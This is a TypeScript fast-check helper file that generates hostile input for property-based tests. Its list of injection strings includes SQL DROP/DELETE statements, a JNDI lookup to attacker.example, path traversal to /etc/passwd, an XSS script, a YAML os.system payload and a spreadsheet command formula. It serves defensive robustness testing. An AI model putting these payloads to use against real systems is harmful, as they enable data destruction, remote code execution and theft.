/**
 * Hostile input for the property-based tests: injection-style strings, unicode that
 * trips naive code (control characters, lone surrogates, right-to-left overrides,
 * zero-width and combining characters), oversized text and values of the wrong type.
 */
import fc from 'fast-check';

/** Strings that have broken SQL, YAML, HTML, template, path and header handling elsewhere. */
export const INJECTION_STRINGS = [
  "'; DROP TABLE waivers; --",
  '" OR 1=1 --',
  "Robert'); DELETE FROM evidence; --",
  '1; UPDATE snapshots SET component_count = 0',
  '$where: function() { return true }',
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":true}}',
  '${7*7}',
  '{{7*7}}',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '<script>alert(1)</script>',
  'a\r\nSet-Cookie: session=stolen',
  'nul\u0000byte',
  '\u202egnp.exe',
  'zero\u200bwidth\ufeffbom',
  'e\u0301\u0301\u0301\u0301combining',
  'lone \ud800 surrogate',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '!!python/object/apply:os.system ["id"]',
  '&anchor *anchor',
  '? complex\n: key',
  '%s%s%s%n',
  'component:default/../../admin',
  '\\\\server\\share',
  "=cmd|' /C calc'!A0",
];

/** Any text: injection strings, printable unicode, raw code points, control characters. */
export function hostileString(maxLength = 300): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom(...INJECTION_STRINGS),
    fc.string({ unit: 'grapheme', maxLength }),
    fc.string({ unit: 'binary', maxLength }),
    fc
      .tuple(
        fc.constantFrom(...INJECTION_STRINGS),
        fc.string({ unit: 'grapheme', maxLength: 20 }),
      )
      .map(([a, b]) => `${b}${a}${b}`),
  );
}

/** Text longer than `limit` characters (unicode, so byte length is larger still). */
export function oversizedString(limit: number): fc.Arbitrary<string> {
  return fc
    .tuple(
      fc.integer({ min: 1, max: 200 }),
      fc.constantFrom('x', 'é', '𝄞', "'", '\u0000'),
    )
    .map(([extra, unit]) => unit.repeat(limit + extra));
}

/** A value of any JSON type but text. */
export function nonString(): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.boolean(),
    fc.constant(null),
    fc.array(fc.jsonValue(), { maxLength: 3 }),
    // as JSON and YAML parsers build them (never a null prototype)
    fc.dictionary(fc.string({ maxLength: 5 }), fc.jsonValue(), {
      maxKeys: 3,
      noNullPrototype: true,
    }),
  );
}

/** A JSON body that is not an object (array, text, number…), or no usable body at all. */
export function nonObjectBody(): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.array(fc.jsonValue(), { maxLength: 3 }),
    fc.string({ maxLength: 20 }),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
  );
}
